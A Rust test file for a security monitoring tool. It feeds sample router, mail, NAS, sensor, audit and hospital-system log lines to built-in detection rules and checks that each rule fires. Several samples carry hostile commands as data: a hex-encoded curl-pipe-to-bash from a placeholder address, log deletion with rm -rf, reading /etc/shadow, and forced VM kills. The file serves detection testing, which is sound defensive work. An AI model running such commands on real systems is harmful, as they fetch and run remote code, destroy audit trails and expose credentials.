//! What our readers say of real lines is what the built-in detections listen for.

use std::collections::BTreeMap;
use std::io::Cursor;
use std::path::{Path, PathBuf};

use sakimori_watch::sources::{
    Context, FileContext, Limits, Reading, SOURCES, read_file_with, read_line,
};
use sakimori_watch::{Detector, RuleText};
use sakimori_words::{Digest, Event, EvidenceRef, Instant, Level};

use crate::attack::built_in;

/// A detection, how often its line comes and the line, in which `{n}` is its number and `{nn}` the same as seconds.
const LINES: &[(&str, usize, &str)] = &[
    ("router-admin-password-guessing", 5, "<174>Login failed for SSH: 203.0.113.7 root"),
    ("router-admin-from-internet", 1, "<174>Login succeeded for HTTP: 203.0.113.7 admin"),
    ("router-configuration-saved", 1, "<174>Configuration saved in \"CONFIG0\" by SSH(admin)"),
    (
        "router-vpn-password-guessing",
        10,
        "<134>PP[ANONYMOUS01] RECV CHAP Failure in CS_OPEN/SS_CLOSED",
    ),
    (
        "remote-desktop-from-internet-by-router",
        1,
        "<134>[INSPECT] PP[01][in][1010] TCP 203.0.113.7:50000 > 192.168.100.20:3389 (2026/11/20 02:10:00)",
    ),
    (
        "hospital-service-open-to-internet",
        1,
        "CEF:0|Example|Firewall|1.0|1|traffic|3|src=203.0.113.40 dst=10.20.4.12 dpt=104 act=accept cat=traffic",
    ),
    (
        "file-sharing-to-internet",
        1,
        "<134>[INSPECT] PP[01][out][1010] TCP 192.168.100.31:50000 > 203.0.113.99:445 (2026/11/20 02:10:00)",
    ),
    (
        "vpn-password-guessing-other-makers",
        10,
        "Nov 20 02:13:{nn} pa-820 CEF:0|Palo Alto Networks|PAN-OS|11.1.2|login|AUTH|3|duser=hospital\\\\kyushoku src=203.0.113.9 \
         outcome=failure dvchost=PA-820 cat=globalprotect authentication",
    ),
    (
        "vpn-password-guessing-other-makers",
        10,
        "<134>Nov 20 02:13:{nn} sma id=sslvpn sn=0017C5000002 time=\"2026-11-20 02:13:{nn}\" fw=198.51.100.3 pri=5 m=1 c=1 \
         src=203.0.113.7 dst=198.51.100.3 user=\"maint\" msg=\"User login denied due to bad credentials\"",
    ),
    (
        "mail-password-spray",
        10,
        "<22>Nov 20 02:12:{nn} mx01 dovecot: imap-login: Disconnected (auth failed, 3 attempts in 12 secs): user=<staff{n}>, \
         method=PLAIN, rip=203.0.113.7, lip=10.20.1.30, TLS",
    ),
    (
        "mail-password-spray",
        10,
        "Nov 20 02:11:{nn} mx01 postfix/submission/smtpd[813]: warning: host.example[203.0.113.7]: SASL PLAIN authentication \
         failed: authentication failure, sasl_username=staff{n}@hospital.example",
    ),
    (
        "mail-account-sends-very-many",
        60,
        "Nov 20 02:11:{nn} mx01 postfix/submission/smtpd[814]: 4F1B2C3D{n}: client=pc31.hospital.example[10.20.7.31], \
         sasl_method=PLAIN, sasl_username=tanaka@hospital.example",
    ),
    (
        "mail-with-program-let-through",
        1,
        "<22>Nov 20 02:11:01 mx01 amavis[4711]: (04711-01) Passed BANNED (.exe,invoice.exe) {RelayedTaggedInbound}, \
         [203.0.113.44]:40112 <a@b.example> -> <tanaka@hospital.example>",
    ),
    (
        "attack-mail-burst",
        15,
        "Nov 20 02:11:{nn} mx01 postfix/cleanup[816]: 4F1B2C3D{n}: milter-reject: END-OF-MESSAGE from unknown[198.51.100.44]: \
         5.7.1 virus found; from=<a@b.example> to=<tanaka@hospital.example> proto=ESMTP helo=<y>",
    ),
    (
        "linux-virus-found",
        1,
        "<22>Nov 20 02:11:01 fs01 clamd[77]: /srv/share/invoice.doc: Doc.Downloader.Example-1 FOUND",
    ),
    (
        "nas-password-guessing",
        10,
        "<12>Nov 20 02:11:{nn} nas01 Connection: User [admin] from [203.0.113.7] failed to log in via [DSM] due to authorization \
         failure.",
    ),
    (
        "nas-password-guessing",
        10,
        "<12>Nov 20 02:11:{nn} nas02 qlogd[812]: conn log: Users: admin, Source IP: 10.20.5.5, Computer name: ---, Connection type: \
         HTTPS, Accessed resources: Administration, Action: Login Fail",
    ),
    (
        "nas-snapshots-or-backups-deleted",
        1,
        "<12>Nov 20 02:11:01 nas01 System: User [admin] deleted snapshot [GMT+09-2026.11.19] of shared folder [backup].",
    ),
    (
        "many-files-rewritten-on-nas",
        100,
        "<29>Nov 20 02:11:12 nas01 smbd_audit[4211]: tanaka|10.20.7.31|pc31|karte|renameat|ok|/srv/karte/{n}.pdf|/srv/karte/{n}.x7k2",
    ),
    (
        "ransom-traces-on-nas",
        1,
        "<29>Nov 20 02:11:15 fs01 smbd_audit[4211]: tanaka|10.20.7.31|pc31|karte|create_file|ok|0x30080|file|create|/srv/karte/how \
         to decrypt.txt",
    ),
    (
        "ransom-traces-on-nas",
        1,
        r#"{"_path":"smb_files","ts":1795108300.5,"uid":"C1","id.orig_h":"10.20.5.5","id.orig_p":1,"id.resp_h":"10.20.1.20","id.resp_p":445,"action":"SMB::FILE_RENAME","path":"\\\\fs01\\karte","name":"2026\\a.pdf.akira"}"#,
    ),
    (
        "sensor-saw-program-copied-to-others",
        1,
        r#"{"_path":"smb_files","ts":1795108300.5,"uid":"C1","id.orig_h":"10.20.5.5","id.orig_p":1,"id.resp_h":"10.20.7.41","id.resp_p":445,"action":"SMB::FILE_WRITE","path":"\\\\10.20.7.41\\ADMIN$","name":"Temp\\u.exe"}"#,
    ),
    (
        "sensor-saw-services-made-on-others",
        3,
        r#"{"_path":"dce_rpc","ts":1795108300.5,"uid":"C1","id.orig_h":"10.20.5.5","id.orig_p":1,"id.resp_h":"10.20.7.{n}","id.resp_p":445,"named_pipe":"svcctl","endpoint":"svcctl","operation":"CreateServiceW"}"#,
    ),
    (
        "sensor-saw-names-and-passwords-tried",
        12,
        r#"{"ts":1795108305.5,"uid":"C1","id.orig_h":"10.20.5.5","id.orig_p":50101,"id.resp_h":"10.20.1.20","id.resp_p":445,"username":"staff{n}","hostname":"PC31","domainname":"HOSPITAL","success":false}"#,
    ),
    (
        "ssh-guessing-seen-by-sensor",
        10,
        r#"{"ts":1795108310.5,"uid":"C1","id.orig_h":"10.20.5.5","id.orig_p":50022,"id.resp_h":"10.20.1.10","id.resp_p":22,"version":2,"auth_success":false,"auth_attempts":6}"#,
    ),
    (
        "machine-inside-probes-many",
        60,
        r#"{"_path":"conn","ts":1795108300.1,"uid":"C1","id.orig_h":"10.20.5.5","id.orig_p":51000,"id.resp_h":"10.20.7.{n}","id.resp_p":445,"proto":"tcp","conn_state":"S0"}"#,
    ),
    (
        "large-upload-seen-by-sensor",
        1,
        r#"{"_path":"conn","ts":1795108300.1,"uid":"C1","id.orig_h":"10.20.7.31","id.orig_p":51000,"id.resp_h":"203.0.113.99","id.resp_p":443,"proto":"tcp","orig_bytes":9000000000,"resp_bytes":4096,"conn_state":"SF"}"#,
    ),
    (
        "many-different-alerts-from-one-machine",
        5,
        r#"{"timestamp":"2026-11-20T02:11:09.120000+0900","event_type":"alert","src_ip":"10.20.5.5","dest_ip":"10.20.1.10","proto":"TCP","alert":{"action":"allowed","signature_id":200{n},"signature":"Example","severity":2}}"#,
    ),
    (
        "program-fetched-from-bare-address",
        1,
        r#"{"timestamp":"2026-11-20T02:11:15.000000+0900","event_type":"http","src_ip":"10.20.7.31","dest_ip":"203.0.113.99","proto":"TCP","http":{"hostname":"203.0.113.99","url":"/tools/u.exe","http_method":"GET","status":200}}"#,
    ),
    (
        "web-logon-guessing",
        40,
        r#"{"timestamp":"2026-11-20T02:11:{nn}.000000+0900","event_type":"http","src_ip":"203.0.113.7","dest_ip":"192.168.50.10","proto":"TCP","http":{"hostname":"nas.hospital.example","url":"/login","http_method":"POST","status":401}}"#,
    ),
    (
        "many-odd-domains",
        25,
        "<30>Nov 20 02:11:{nn} ns01 named[812]: client @0x7f0112345678 10.20.7.31#53112 (a1.top): query: a{n}.top IN A +E(0)K (10.20.1.5)",
    ),
    (
        "data-hidden-in-names",
        100,
        "<30>Nov 20 02:11:12 ns01 unbound[812]: [812:0] info: 10.20.7.31 a0123456789b0123456789c0123456789d0123{n}.t.example. TXT IN",
    ),
    (
        "machine-with-attack-system-name",
        1,
        "<30>Nov 20 02:11:04 dhcp01 dhcpd[812]: DHCPACK on 10.20.7.99 to 02:00:00:00:00:99 (kali) via eth0",
    ),
    (
        "virtual-machines-stopped-by-command",
        1,
        "<13>2026-11-20T02:11:04.000Z esx01 shell[2101234]: [root]: esxcli vm process kill --type=force --world-id=2101234",
    ),
    (
        "hypervisor-shell-opened",
        1,
        "<14>2026-11-20T02:11:04.000Z esx01 hostd[2101234]: info hostd[2101234] [Originator@6876 sub=Vimsvc] Event 412 : SSH \
         access has been enabled.",
    ),
    (
        "linux-records-removed-or-stopped",
        1,
        r#"type=EXECVE msg=audit(1795108269.120:4711): argc=3 a0="rm" a1="-rf" a2="/var/log/secure""#,
    ),
    (
        "linux-fetches-and-runs",
        1,
        r#"type=EXECVE msg=audit(1795108269.120:4711): argc=3 a0="sh" a1="-c" a2=6375726C202D7320687474703A2F2F3230332E302E3131332E392F61207C2062617368"#,
    ),
    (
        "linux-password-file-taken",
        1,
        "<85>Nov 20 08:00:00 hisv01 sudo:   tanaka : TTY=pts/0 ; PWD=/home/tanaka ; USER=root ; COMMAND=/bin/cat /etc/shadow",
    ),
    (
        "web-server-runs-shell",
        1,
        r#"type=SYSCALL msg=audit(1795108272.250:4715): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=78 auid=4294967295 uid=33 comm="sh" exe="/usr/bin/dash" key="exec"ARCH=x86_64 SYSCALL=execve AUID="unset" UID="www-data""#,
    ),
    (
        "kerberos-password-guessing",
        20,
        r#"{"EventID":4771,"Channel":"Security","Provider_Name":"Microsoft-Windows-Security-Auditing","Computer":"DC01.hospital.example","TimeCreated":"2026-11-19T17:11:{nn}.000Z","TargetUserName":"administrator","Status":"0x18","IpAddress":"::ffff:10.20.5.5"}"#,
    ),
    (
        "account-changes-at-night",
        1,
        r#"{"EventID":4720,"Channel":"Security","Provider_Name":"Microsoft-Windows-Security-Auditing","Computer":"DC01.hospital.example","TimeCreated":"2026-11-19T17:11:00.000Z","TargetUserName":"support2","SubjectUserName":"administrator"}"#,
    ),
    (
        "same-print-on-many-printers",
        6,
        r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-PrintService"}},"EventID":307,"TimeCreated":{"#attributes":{"SystemTime":"2026-11-19T17:13:{nn}.000000Z"}},"Channel":"Microsoft-Windows-PrintService/Operational","Computer":"PRT01.hospital.example"},"UserData":{"DocumentPrinted":{"Param1":"77","Param2":"RECOVER.txt","Param3":"administrator","Param4":"PC31","Param5":"PRN-WARD{n}","Param6":"IP","Param7":"4096","Param8":"1"}}}}"##,
    ),
    (
        "records-of-many-patients-exported",
        20,
        r#"{"resourceType":"AuditEvent","type":{"system":"http://dicom.nema.org/resources/ontology/DCM","code":"110106","display":"Export"},"action":"R","recorded":"2026-11-20T02:02:{nn}+09:00","outcome":"0","agent":[{"who":{"reference":"Practitioner/n2207"},"requestor":true,"network":{"address":"10.20.7.31","type":"2"}}],"source":{"observer":{"display":"ehr01"}},"entity":[{"what":{"reference":"Patient/000{n}"},"type":{"code":"1"},"role":{"code":"1"}}]}"#,
    ),
    (
        "record-system-password-guessing",
        10,
        r#"{"resourceType":"AuditEvent","type":{"system":"http://dicom.nema.org/resources/ontology/DCM","code":"110114"},"subtype":[{"system":"http://dicom.nema.org/resources/ontology/DCM","code":"110122"}],"action":"E","recorded":"2026-11-20T02:10:{nn}+09:00","outcome":"8","agent":[{"altId":"s1042","requestor":true,"network":{"address":"10.212.134.200","type":"2"}}],"source":{"observer":{"display":"ehr01"}}}"#,
    ),
    (
        "many-studies-deleted",
        10,
        r#"{"resourceType":"AuditEvent","type":{"system":"http://dicom.nema.org/resources/ontology/DCM","code":"110105"},"action":"D","recorded":"2026-11-20T02:10:{nn}+09:00","outcome":"0","agent":[{"altId":"s1042","requestor":true,"network":{"address":"10.20.7.31","type":"2"}}],"source":{"observer":{"display":"pacs01"}}}"#,
    ),
    (
        "audit-of-records-stopped",
        1,
        r#"{"resourceType":"AuditEvent","type":{"system":"http://dicom.nema.org/resources/ontology/DCM","code":"110101"},"subtype":[{"system":"http://dicom.nema.org/resources/ontology/DCM","code":"110133"}],"action":"E","recorded":"2026-11-20T02:10:00+09:00","outcome":"0","agent":[{"altId":"s1042","requestor":true}],"source":{"observer":{"display":"pacs01"}}}"#,
    ),
];

fn read(line: &str, number: usize) -> Event {
    let line = line.replace("{nn}", &format!("{:02}", number % 60));
    let line = line.replace("{n}", &number.to_string());
    let received_at = Instant::parse("2026-11-20T09:00:05Z").unwrap();
    read_line(line.as_bytes(), &Context { source: "line".to_owned(), received_at })
}

fn evidence() -> EvidenceRef {
    EvidenceRef::Event { seq: 0, leaf: Digest::default() }
}

#[test]
fn every_source_is_heard_by_the_detections_made_for_it() {
    let rules: BTreeMap<String, RuleText> =
        built_in().into_iter().map(|rule| (rule.name.clone(), rule)).collect();
    let mut deaf = Vec::new();
    for (name, times, line) in LINES {
        let mut detector = Detector::new(std::slice::from_ref(&rules[*name]));
        let events: Vec<Event> = (0..*times).map(|number| read(line, number)).collect();
        if events.iter().all(|event| detector.look(event, &evidence).is_empty()) {
            deaf.push((name, events.into_iter().next()));
        }
    }
    assert!(deaf.is_empty(), "{deaf:#?}");
}

#[test]
fn the_samples_of_our_sources_wake_nobody_without_a_reason() {
    // The samples hold both: an administrator from the internet, and shadow copies that are deleted.
    const REASONS: [&str; 2] = ["firewall-admin-from-internet", "shadow-copies-deleted"];
    let rules = built_in();
    let mut detector = Detector::new(&rules);
    let events = samples().into_iter().flat_map(|sample| events_of(&sample));
    let found = events.flat_map(|event| detector.look(&event, &evidence)).collect::<Vec<_>>();
    let expected = |title: &str| {
        let rule = rules.iter().find(|rule| rule.advice.as_ref().unwrap().title.ja == title);
        REASONS.contains(&rule.unwrap().name.as_str())
    };
    let critical = found.iter().filter(|own| own.level == Level::Critical);
    let unexpected: Vec<&str> =
        critical.map(|own| own.title.ja.as_str()).filter(|title| !expected(title)).collect();
    assert_eq!(unexpected, [""; 0]);
}

fn samples() -> Vec<PathBuf> {
    let sources = Path::new(env!("CARGO_MANIFEST_DIR")).join("src/sources");
    let folders = SOURCES.iter().map(|source| sources.join(source.name()).join("samples"));
    let mut files: Vec<PathBuf> = folders
        .flat_map(|folder| std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()))
        .collect();
    files.sort();
    files
}

fn events_of(path: &Path) -> Vec<Event> {
    let name = path.file_name().unwrap().to_str().unwrap();
    let received_at = Instant::parse("2026-11-20T09:00:05Z").unwrap();
    let context = Context { source: name.to_owned(), received_at };
    let file =
        FileContext { name, context: &context, written_by: received_at, maps: &[], wanted: None };
    let mut events = Vec::new();
    let mut input = Cursor::new(std::fs::read(path).unwrap());
    read_file_with(&file, &mut input, &Limits::STANDARD, &mut |reading| {
        if let Reading::Event { event, .. } = reading {
            events.push(event);
        }
    })
    .unwrap();
    events
}
